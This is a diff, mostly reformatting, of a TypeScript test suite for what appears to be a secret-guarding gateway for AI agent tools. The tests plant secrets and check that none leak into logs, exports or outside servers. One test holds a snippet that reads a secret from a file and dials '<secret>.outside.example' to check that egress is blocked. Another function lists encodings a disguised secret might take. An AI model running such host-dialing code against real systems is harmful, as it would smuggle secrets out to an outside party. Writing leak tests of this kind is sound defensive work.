@@ -26,9 +26,25 @@ const planted: readonly (readonly [string, string])[] = [
 /** Every form in which a secret would still be one to whoever finds it. */
 function formsOf(value: string): string[] {
   const bytes = Buffer.from(value);
-  const shifted = [0, 1, 2].map((pad) => Buffer.concat([Buffer.alloc(pad), bytes]).toString("base64").slice(pad === 0 ? 0 : 4).replaceAll("=", "").slice(0, -1));
+  const shifted = [0, 1, 2].map((pad) =>
+    Buffer.concat([Buffer.alloc(pad), bytes])
+      .toString("base64")
+      .slice(pad === 0 ? 0 : 4)
+      .replaceAll("=", "")
+      .slice(0, -1),
+  );
   const body = value.includes("\n") ? (value.split("\n")[1] ?? value) : value;
-  const all = [value, body, JSON.stringify(value).slice(1, -1), encodeURIComponent(value), bytes.toString("hex"), bytes.toString("hex").toUpperCase(), bytes.toString("base64url"), [...value].toReversed().join(""), ...shifted];
+  const all = [
+    value,
+    body,
+    JSON.stringify(value).slice(1, -1),
+    encodeURIComponent(value),
+    bytes.toString("hex"),
+    bytes.toString("hex").toUpperCase(),
+    bytes.toString("base64url"),
+    [...value].toReversed().join(""),
+    ...shifted,
+  ];
   return [...new Set(all)].filter((form) => form.length >= 12);
 }
 const needles = planted.flatMap(([handle, value]) => formsOf(value).map((form) => ({ handle, form, bytes: Buffer.from(form) })));
@@ -57,9 +73,18 @@ beforeAll(async () => {
   writeFileSync(join(house.workspace, "noisy"), "#!/bin/sh\nall=$(cat)\nprintf '%s' \"$all\"\nprintf '%s' \"$all\" >&2\nexit 3\n", { mode: 0o755 });
   chmodSync(house.workspace, 0o777);
   await house.run();
-  door = await openDoor(house.owner(), house.node(), { "fs.write": noisy(), "fs.read": noisy(), "owner.message": noisy(), "http.post": world("post"), "http.get": world("get"), "task.note": noisy() });
+  door = await openDoor(house.owner(), house.node(), {
+    "fs.write": noisy(),
+    "fs.read": noisy(),
+    "owner.message": noisy(),
+    "http.post": world("post"),
+    "http.get": world("get"),
+    "task.note": noisy(),
+  });
   for (const [handle, value] of planted)
-    await house.owner().ask((client) => client.breaker.secrets.set({ handle, value, hosts: [`orders.shop.example:${house.world.port}`, "local"], note: "planted" }));
+    await house
+      .owner()
+      .ask((client) => client.breaker.secrets.set({ handle, value, hosts: [`orders.shop.example:${house.world.port}`, "local"], note: "planted" }));
 });
 afterAll(() => house.end());
 
@@ -96,118 +121,111 @@ const carriers = (value: string) => {
   ];
 };
 
-test(
-  "a day with ten secrets in every place of an act leaves none of them behind",
-  async () => {
-    const denied = new Set<string>();
-    for (const [handle, value] of planted) {
-      await house.run();
-      await door.inbound(`이 글에는 ${value} 가 들어 있어요. ${Buffer.from(value).toString("base64")}`, { channel: "instagram", address: "minji" });
-      await door.inbound(value, null);
-      for (const act of carriers(value)) {
-        const answer = await door.act(act);
-        if (answer.reason === "secret" || answer.secrets.length > 0) denied.add(handle);
-        expect(foundIn("the answer", JSON.stringify(answer).replaceAll(JSON.stringify(answer.output), ""))).toEqual([]);
-        if (answer.decision === "deny" && (answer.reason === "panic" || answer.reason === "latched")) {
-          // The same while everything is stopped, and then a person goes on.
-          await door.judge(act);
-          await house.run();
-          await door.judge(act);
-          await house.run();
-        }
+test("a day with ten secrets in every place of an act leaves none of them behind", async () => {
+  const denied = new Set<string>();
+  for (const [handle, value] of planted) {
+    await house.run();
+    await door.inbound(`이 글에는 ${value} 가 들어 있어요. ${Buffer.from(value).toString("base64")}`, { channel: "instagram", address: "minji" });
+    await door.inbound(value, null);
+    for (const act of carriers(value)) {
+      const answer = await door.act(act);
+      if (answer.reason === "secret" || answer.secrets.length > 0) denied.add(handle);
+      expect(foundIn("the answer", JSON.stringify(answer).replaceAll(JSON.stringify(answer.output), ""))).toEqual([]);
+      if (answer.decision === "deny" && (answer.reason === "panic" || answer.reason === "latched")) {
+        // The same while everything is stopped, and then a person goes on.
+        await door.judge(act);
+        await house.run();
+        await door.judge(act);
+        await house.run();
       }
     }
-    expect(denied.size).toBe(planted.length);
-    // None of them went anywhere.
-    expect(house.world.received.flatMap((one) => foundIn("a far server", JSON.stringify(one)))).toEqual([]);
-  },
-  240_000,
-);
+  }
+  expect(denied.size).toBe(planted.length);
+  // None of them went anywhere.
+  expect(house.world.received.flatMap((one) => foundIn("a far server", JSON.stringify(one)))).toEqual([]);
+}, 240_000);
 
-test(
-  "a secret by its handle reaches its own host, and comes back to nobody",
-  async () => {
-    await house.run();
-    const before = house.world.received.length;
-    const clean = await openDoor(house.owner(), house.node(), { "http.post": world("post"), "task.note": noisy() });
-    const sent = await clean.act({ tool: "http.post", args: { url: `${orders()}/in`, body: "{{vault:api-key}}" }, agent: "clean" });
-    expect(sent).toMatchObject({ decision: "allow", outcome: "done" });
-    expect(house.world.received).toHaveLength(before + 1);
-    expect(house.world.received.at(-1)?.body).toContain(planted[0]?.[1]);
-    const elsewhere = await clean.act({ tool: "http.post", args: { url: `http://weather.shop.example:${house.world.port}/in`, body: "{{vault:api-key}}" }, agent: "clean" });
-    expect(elsewhere.outcome).not.toBe("done");
-    expect(house.world.received).toHaveLength(before + 1);
-    // A tool that dials a host that is named like a secret: nothing of it stands in the log.
-    writeFileSync(join(house.workspace, "host.txt"), planted.find(([handle]) => handle === "hex")?.[1] ?? "");
-    const dials = `require("node:http").get("http://" + require("node:fs").readFileSync("host.txt", "utf8") + ".outside.example/", (a) => a.resume())`;
-    const quiet = await openDoor(house.owner(), house.node(), { "task.note": { command: process.execPath, args: ["-e", dials], network: "proxy" } });
-    for (const mode of ["isolated", "hybrid"] as const) {
-      await house.owner().ask((client) => client.breaker.egress.mode({ mode }));
-      expect(await quiet.act({ tool: "task.note", args: { text: "x" }, agent: "clean" })).toMatchObject({ decision: "allow" });
-    }
-    expect(logged(house.stateDir, "egress.refused").length).toBeGreaterThanOrEqual(2);
-    await house.run();
-    // A tool that echoes what it was filled with: the agent does not learn it by that, nor does the log.
-    const echoed = await clean.act({ tool: "task.note", args: { text: "{{vault:password}} {{vault:hex}}" }, agent: "clean" });
-    expect(echoed).toMatchObject({ decision: "allow", outcome: "failed" });
-    expect(foundIn("the output", JSON.stringify(echoed))).toEqual([]);
-  },
-  60_000,
-);
+test("a secret by its handle reaches its own host, and comes back to nobody", async () => {
+  await house.run();
+  const before = house.world.received.length;
+  const clean = await openDoor(house.owner(), house.node(), { "http.post": world("post"), "task.note": noisy() });
+  const sent = await clean.act({ tool: "http.post", args: { url: `${orders()}/in`, body: "{{vault:api-key}}" }, agent: "clean" });
+  expect(sent).toMatchObject({ decision: "allow", outcome: "done" });
+  expect(house.world.received).toHaveLength(before + 1);
+  expect(house.world.received.at(-1)?.body).toContain(planted[0]?.[1]);
+  const elsewhere = await clean.act({
+    tool: "http.post",
+    args: { url: `http://weather.shop.example:${house.world.port}/in`, body: "{{vault:api-key}}" },
+    agent: "clean",
+  });
+  expect(elsewhere.outcome).not.toBe("done");
+  expect(house.world.received).toHaveLength(before + 1);
+  // A tool that dials a host that is named like a secret: nothing of it stands in the log.
+  writeFileSync(join(house.workspace, "host.txt"), planted.find(([handle]) => handle === "hex")?.[1] ?? "");
+  const dials = `require("node:http").get("http://" + require("node:fs").readFileSync("host.txt", "utf8") + ".outside.example/", (a) => a.resume())`;
+  const quiet = await openDoor(house.owner(), house.node(), { "task.note": { command: process.execPath, args: ["-e", dials], network: "proxy" } });
+  for (const mode of ["isolated", "hybrid"] as const) {
+    await house.owner().ask((client) => client.breaker.egress.mode({ mode }));
+    expect(await quiet.act({ tool: "task.note", args: { text: "x" }, agent: "clean" })).toMatchObject({ decision: "allow" });
+  }
+  expect(logged(house.stateDir, "egress.refused").length).toBeGreaterThanOrEqual(2);
+  await house.run();
+  // A tool that echoes what it was filled with: the agent does not learn it by that, nor does the log.
+  const echoed = await clean.act({ tool: "task.note", args: { text: "{{vault:password}} {{vault:hex}}" }, agent: "clean" });
+  expect(echoed).toMatchObject({ decision: "allow", outcome: "failed" });
+  expect(foundIn("the output", JSON.stringify(echoed))).toEqual([]);
+}, 60_000);
 
-test(
-  "none is found in the state folder, in what the screens are answered and in the bundle for support",
-  async () => {
-    const owner = house.owner();
-    const found: string[] = [];
-    let searched = 0;
-    const search = (where: string, content: unknown) => {
-      const text = JSON.stringify(content);
-      searched += text.length;
-      found.push(...foundIn(where, text));
-    };
-    const rows = (await owner.ask((client) => client.breaker.activity.list({ filter: {}, limit: 1 }))).log.rows;
-    expect(rows).toBeGreaterThan(400);
-    for (let seq = 1; seq <= rows; seq++) search(`entry ${seq}`, await owner.ask((client) => client.breaker.activity.entry({ seq })));
-    for (let before: number | undefined; ;) {
-      const page = await owner.ask((client) => client.breaker.activity.list({ filter: {}, limit: 200, ...(before === undefined ? {} : { before }) }));
-      search("activity", page);
-      if (page.next === null) break;
-      before = page.next;
-    }
-    let lines = 0;
-    for await (const part of await owner.client.breaker.activity.export({})) {
-      lines += part.lines.length;
-      search("export", part);
-    }
-    expect(lines).toBeGreaterThanOrEqual(rows);
-    search("state", await owner.ask((client) => client.breaker.state()));
-    const watched = await owner.client.breaker.watch();
-    search("watch", (await watched.next()).value);
-    await watched.return?.();
-    search("approvals", await owner.ask((client) => client.breaker.approvals.list()));
-    search("autonomy", await owner.ask((client) => client.breaker.autonomy.get()));
-    for (const level of [1, 3, 5] as const) {
-      search("preview", await owner.ask((client) => client.breaker.autonomy.preview({ level, days: 7 }), 60_000));
-      search("replay", await owner.ask((client) => client.breaker.autonomy.replay({ level, days: 7 }), 60_000));
-    }
-    search("egress", await owner.ask((client) => client.breaker.egress.view({ limit: 500 })));
-    search("secrets", await owner.ask((client) => client.breaker.secrets.list()));
-    search("runtimes", await owner.ask((client) => client.breaker.runtimes.list()));
-    search("checkpoint", await owner.ask((client) => client.breaker.activity.checkpoint()));
-    search("verify", await owner.ask((client) => client.breaker.activity.verify()));
-    search("support", await owner.ask((client) => client.rack.supportBundle()));
-    search("rack", await owner.ask((client) => client.rack.snapshot()));
-    expect(searched).toBeGreaterThan(500_000);
+test("none is found in the state folder, in what the screens are answered and in the bundle for support", async () => {
+  const owner = house.owner();
+  const found: string[] = [];
+  let searched = 0;
+  const search = (where: string, content: unknown) => {
+    const text = JSON.stringify(content);
+    searched += text.length;
+    found.push(...foundIn(where, text));
+  };
+  const rows = (await owner.ask((client) => client.breaker.activity.list({ filter: {}, limit: 1 }))).log.rows;
+  expect(rows).toBeGreaterThan(400);
+  for (let seq = 1; seq <= rows; seq++) search(`entry ${seq}`, await owner.ask((client) => client.breaker.activity.entry({ seq })));
+  for (let before: number | undefined; ;) {
+    const page = await owner.ask((client) => client.breaker.activity.list({ filter: {}, limit: 200, ...(before === undefined ? {} : { before }) }));
+    search("activity", page);
+    if (page.next === null) break;
+    before = page.next;
+  }
+  let lines = 0;
+  for await (const part of await owner.client.breaker.activity.export({})) {
+    lines += part.lines.length;
+    search("export", part);
+  }
+  expect(lines).toBeGreaterThanOrEqual(rows);
+  search("state", await owner.ask((client) => client.breaker.state()));
+  const watched = await owner.client.breaker.watch();
+  search("watch", (await watched.next()).value);
+  await watched.return?.();
+  search("approvals", await owner.ask((client) => client.breaker.approvals.list()));
+  search("autonomy", await owner.ask((client) => client.breaker.autonomy.get()));
+  for (const level of [1, 3, 5] as const) {
+    search("preview", await owner.ask((client) => client.breaker.autonomy.preview({ level, days: 7 }), 60_000));
+    search("replay", await owner.ask((client) => client.breaker.autonomy.replay({ level, days: 7 }), 60_000));
+  }
+  search("egress", await owner.ask((client) => client.breaker.egress.view({ limit: 500 })));
+  search("secrets", await owner.ask((client) => client.breaker.secrets.list()));
+  search("runtimes", await owner.ask((client) => client.breaker.runtimes.list()));
+  search("checkpoint", await owner.ask((client) => client.breaker.activity.checkpoint()));
+  search("verify", await owner.ask((client) => client.breaker.activity.verify()));
+  search("support", await owner.ask((client) => client.rack.supportBundle()));
+  search("rack", await owner.ask((client) => client.rack.snapshot()));
+  expect(searched).toBeGreaterThan(500_000);
 
-    const files = filesBelow(house.stateDir);
-    expect(files.some((path) => path.endsWith("audit.db"))).toBe(true);
-    for (const path of files) found.push(...foundIn(path.slice(house.stateDir.length), readFileSync(path)));
-    if (process.env['ZZ']) for (const l of readFileSync(house.stateDir+'/log/aosd.log','utf8').split('\n')) if (foundIn('x',l).length) console.log(l.slice(0,1500));
-    expect([...new Set(found)]).toEqual([]);
-  },
-  120_000,
-);
+  const files = filesBelow(house.stateDir);
+  expect(files.some((path) => path.endsWith("audit.db"))).toBe(true);
+  for (const path of files) found.push(...foundIn(path.slice(house.stateDir.length), readFileSync(path)));
+  if (process.env["ZZ"])
+    for (const l of readFileSync(house.stateDir + "/log/aosd.log", "utf8").split("\n")) if (foundIn("x", l).length) console.log(l.slice(0, 1500));
+  expect([...new Set(found)]).toEqual([]);
+}, 120_000);
 
 test("the search finds what there is: each secret in the one place where it was put in clear", () => {
   for (const [, value] of planted) {
